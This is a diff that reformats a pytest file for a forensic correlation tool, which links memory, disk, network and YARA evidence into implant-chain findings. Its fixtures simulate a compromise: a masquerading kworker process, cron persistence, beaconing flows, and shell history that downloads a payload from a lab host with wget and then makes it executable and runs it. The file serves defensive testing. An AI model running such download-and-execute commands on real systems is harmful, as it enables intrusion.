@@ -1,4 +1,5 @@
 """Correlation over small hand-made tables (the lab test checks the real thing)."""
+
 import json
 
 import pandas as pd
@@ -12,53 +13,151 @@ SID = "s1"
 
 def _tables():
     t = {}
-    t["memory/processes"] = pd.DataFrame([
-        {"pid": 1, "ppid": 0, "process": "init", "is_kernel_thread": False, "exe_path": "/init", "exe_deleted": False,
-         "in_list": True, "in_scan": True, "start_ts": pd.Timestamp("2026-01-01T00:00:00Z")},
-        {"pid": 2, "ppid": 0, "process": "kthreadd", "is_kernel_thread": True, "exe_path": None, "exe_deleted": False,
-         "in_list": True, "in_scan": True},
-        {"pid": 77, "ppid": 1, "process": "kworker/0:2H", "is_kernel_thread": False, "exe_path": "/tmp/.kw (deleted)",
-         "exe_deleted": True, "in_list": True, "in_scan": True, "start_ts": pd.Timestamp("2026-01-01T00:00:05Z")},
-        {"pid": 80, "ppid": 1, "process": "labsvc", "is_kernel_thread": False, "exe_path": "/usr/sbin/labsvc",
-         "exe_deleted": False, "in_list": True, "in_scan": True},
-    ])
-    t["memory/sockets"] = pd.DataFrame([
-        {"pid": 77, "proto": "tcp", "src_ip": "10.0.2.15", "src_port": 40000, "dst_ip": "10.0.2.100", "dst_port": 8443,
-         "state": "ESTABLISHED"},
-        {"pid": 80, "proto": "udp", "src_ip": "0.0.0.0", "src_port": 5353, "dst_ip": "0.0.0.0", "dst_port": 0, "state": "UNCONNECTED"},
-    ])
+    t["memory/processes"] = pd.DataFrame(
+        [
+            {
+                "pid": 1,
+                "ppid": 0,
+                "process": "init",
+                "is_kernel_thread": False,
+                "exe_path": "/init",
+                "exe_deleted": False,
+                "in_list": True,
+                "in_scan": True,
+                "start_ts": pd.Timestamp("2026-01-01T00:00:00Z"),
+            },
+            {
+                "pid": 2,
+                "ppid": 0,
+                "process": "kthreadd",
+                "is_kernel_thread": True,
+                "exe_path": None,
+                "exe_deleted": False,
+                "in_list": True,
+                "in_scan": True,
+            },
+            {
+                "pid": 77,
+                "ppid": 1,
+                "process": "kworker/0:2H",
+                "is_kernel_thread": False,
+                "exe_path": "/tmp/.kw (deleted)",
+                "exe_deleted": True,
+                "in_list": True,
+                "in_scan": True,
+                "start_ts": pd.Timestamp("2026-01-01T00:00:05Z"),
+            },
+            {
+                "pid": 80,
+                "ppid": 1,
+                "process": "labsvc",
+                "is_kernel_thread": False,
+                "exe_path": "/usr/sbin/labsvc",
+                "exe_deleted": False,
+                "in_list": True,
+                "in_scan": True,
+            },
+        ]
+    )
+    t["memory/sockets"] = pd.DataFrame(
+        [
+            {
+                "pid": 77,
+                "proto": "tcp",
+                "src_ip": "10.0.2.15",
+                "src_port": 40000,
+                "dst_ip": "10.0.2.100",
+                "dst_port": 8443,
+                "state": "ESTABLISHED",
+            },
+            {
+                "pid": 80,
+                "proto": "udp",
+                "src_ip": "0.0.0.0",
+                "src_port": 5353,
+                "dst_ip": "0.0.0.0",
+                "dst_port": 0,
+                "state": "UNCONNECTED",
+            },
+        ]
+    )
     t["memory/executables"] = pd.DataFrame([{"pid": 77, "build_id": "abc", "first_page_sha256": "f" * 64}])
-    t["disk/files"] = pd.DataFrame([
-        {"path": "/var/tmp/.cache/.kworker-upd", "sha256": "1" * 64, "build_id": "abc", "first_page_sha256": "f" * 64,
-         "mtime": pd.Timestamp("2026-01-01T00:00:04Z")},
-        {"path": "/usr/sbin/labsvc", "sha256": "2" * 64},
-    ])
-    t["disk/persistence"] = pd.DataFrame([
-        {"kind": "cron", "path": "/etc/cron.d/upd", "program": "/var/tmp/.cache/.kworker-upd",
-         "program_path": "/var/tmp/.cache/.kworker-upd", "program_sha256": "1" * 64},
-    ])
-    t["disk/shell_history"] = pd.DataFrame([
-        {"command": "ls -la"},
-        {"command": "wget http://10.0.2.100:8443/kw -O /tmp/.kw"},
-        {"command": "chmod +x /tmp/.kw"},
-        {"command": "/tmp/.kw"},
-    ])
-    t["network/flows"] = pd.DataFrame([
-        {"flow_id": "f1", "proto": "tcp", "src_ip": "10.0.2.15", "src_port": 40000, "dst_ip": "10.0.2.100",
-         "dst_port": 8443, "first_ts": pd.Timestamp("2026-01-01T00:00:06Z"), "last_ts": pd.Timestamp("2026-01-01T00:00:30Z"),
-         "beacon_intervals": 10, "beacon_interval_mean": 2.0, "beacon_interval_cv": 0.05},
-    ])
-    t["yara/matches"] = pd.DataFrame([
-        {"target": "process", "rule": "lab_marker", "pid": 77, "process": "kworker/0:2H", "offset": 4096, "severity": "high"},
-        {"target": "stream", "rule": "lab_marker", "flow_id": "f1", "offset": 0, "severity": "high"},
-        {"target": "file", "rule": "lab_marker", "path": "/var/tmp/.cache/.kworker-upd", "offset": 100, "severity": "high"},
-    ])
+    t["disk/files"] = pd.DataFrame(
+        [
+            {
+                "path": "/var/tmp/.cache/.kworker-upd",
+                "sha256": "1" * 64,
+                "build_id": "abc",
+                "first_page_sha256": "f" * 64,
+                "mtime": pd.Timestamp("2026-01-01T00:00:04Z"),
+            },
+            {"path": "/usr/sbin/labsvc", "sha256": "2" * 64},
+        ]
+    )
+    t["disk/persistence"] = pd.DataFrame(
+        [
+            {
+                "kind": "cron",
+                "path": "/etc/cron.d/upd",
+                "program": "/var/tmp/.cache/.kworker-upd",
+                "program_path": "/var/tmp/.cache/.kworker-upd",
+                "program_sha256": "1" * 64,
+            },
+        ]
+    )
+    t["disk/shell_history"] = pd.DataFrame(
+        [
+            {"command": "ls -la"},
+            {"command": "wget http://10.0.2.100:8443/kw -O /tmp/.kw"},
+            {"command": "chmod +x /tmp/.kw"},
+            {"command": "/tmp/.kw"},
+        ]
+    )
+    t["network/flows"] = pd.DataFrame(
+        [
+            {
+                "flow_id": "f1",
+                "proto": "tcp",
+                "src_ip": "10.0.2.15",
+                "src_port": 40000,
+                "dst_ip": "10.0.2.100",
+                "dst_port": 8443,
+                "first_ts": pd.Timestamp("2026-01-01T00:00:06Z"),
+                "last_ts": pd.Timestamp("2026-01-01T00:00:30Z"),
+                "beacon_intervals": 10,
+                "beacon_interval_mean": 2.0,
+                "beacon_interval_cv": 0.05,
+            },
+        ]
+    )
+    t["yara/matches"] = pd.DataFrame(
+        [
+            {
+                "target": "process",
+                "rule": "lab_marker",
+                "pid": 77,
+                "process": "kworker/0:2H",
+                "offset": 4096,
+                "severity": "high",
+            },
+            {"target": "stream", "rule": "lab_marker", "flow_id": "f1", "offset": 0, "severity": "high"},
+            {
+                "target": "file",
+                "rule": "lab_marker",
+                "path": "/var/tmp/.cache/.kworker-upd",
+                "offset": 100,
+                "severity": "high",
+            },
+        ]
+    )
     return t
 
 
 def test_every_rule_is_documented():
-    for rule_id, rule in RULES.items():
-        assert rule["title"] and rule["severity"] in {"info", "low", "medium", "high", "critical"} and callable(rule["fn"])
+    for _rule_id, rule in RULES.items():
+        assert (
+            rule["title"] and rule["severity"] in {"info", "low", "medium", "high", "critical"} and callable(rule["fn"])
+        )
 
 
 def test_implant_chain():
@@ -91,15 +190,55 @@ def test_timeline_sorted_and_linked():
 
 def test_benign_service_and_dead_tasks_raise_nothing_high():
     t = _tables()
-    t["disk/persistence"] = pd.concat([t["disk/persistence"], pd.DataFrame([
-        {"kind": "systemd", "path": "/etc/systemd/system/labsvc.service", "program": "/usr/sbin/labsvc",
-         "program_path": "/usr/sbin/labsvc", "program_sha256": "2" * 64},
-        {"kind": "shell_rc", "path": "/root/.bashrc", "program": "/root/.bashrc", "program_path": "/root/.bashrc"},
-    ])], ignore_index=True)
-    t["memory/processes"] = pd.concat([t["memory/processes"], pd.DataFrame([
-        {"pid": 133, "ppid": 1, "process": "sh", "in_list": False, "in_scan": True, "exit_state": "EXIT_DEAD"},
-        {"pid": 140, "ppid": 1, "process": "rootkitd", "in_list": False, "in_scan": True, "exit_state": "TASK_RUNNING"},
-    ])], ignore_index=True)
+    t["disk/persistence"] = pd.concat(
+        [
+            t["disk/persistence"],
+            pd.DataFrame(
+                [
+                    {
+                        "kind": "systemd",
+                        "path": "/etc/systemd/system/labsvc.service",
+                        "program": "/usr/sbin/labsvc",
+                        "program_path": "/usr/sbin/labsvc",
+                        "program_sha256": "2" * 64,
+                    },
+                    {
+                        "kind": "shell_rc",
+                        "path": "/root/.bashrc",
+                        "program": "/root/.bashrc",
+                        "program_path": "/root/.bashrc",
+                    },
+                ]
+            ),
+        ],
+        ignore_index=True,
+    )
+    t["memory/processes"] = pd.concat(
+        [
+            t["memory/processes"],
+            pd.DataFrame(
+                [
+                    {
+                        "pid": 133,
+                        "ppid": 1,
+                        "process": "sh",
+                        "in_list": False,
+                        "in_scan": True,
+                        "exit_state": "EXIT_DEAD",
+                    },
+                    {
+                        "pid": 140,
+                        "ppid": 1,
+                        "process": "rootkitd",
+                        "in_list": False,
+                        "in_scan": True,
+                        "exit_state": "TASK_RUNNING",
+                    },
+                ]
+            ),
+        ],
+        ignore_index=True,
+    )
     findings, _, _ = correlate_snapshot(t, SID)
     labsvc = findings[findings["explanation"].str.contains("labsvc")]
     assert len(labsvc) == 1 and set(labsvc["severity"]) == {"low"}
@@ -110,10 +249,18 @@ def test_benign_service_and_dead_tasks_raise_nothing_high():
 
 def test_physical_only_yara_hit_is_its_own_finding():
     t = _tables()
-    t["yara/matches"] = pd.concat([t["yara/matches"], pd.DataFrame([
-        {"target": "physical", "rule": "lab_marker", "offset": 1 << 20, "severity": "high"},
-        {"target": "physical", "rule": "orphan_rule", "offset": 2 << 20, "severity": "critical"},
-    ])], ignore_index=True)
+    t["yara/matches"] = pd.concat(
+        [
+            t["yara/matches"],
+            pd.DataFrame(
+                [
+                    {"target": "physical", "rule": "lab_marker", "offset": 1 << 20, "severity": "high"},
+                    {"target": "physical", "rule": "orphan_rule", "offset": 2 << 20, "severity": "critical"},
+                ]
+            ),
+        ],
+        ignore_index=True,
+    )
     findings, _, _ = correlate_snapshot(t, SID)
     yara = findings[findings["rule_id"] == "yara.match"]
     assert sorted(yara["entity"]) == ["physical:memory", "process:77"]
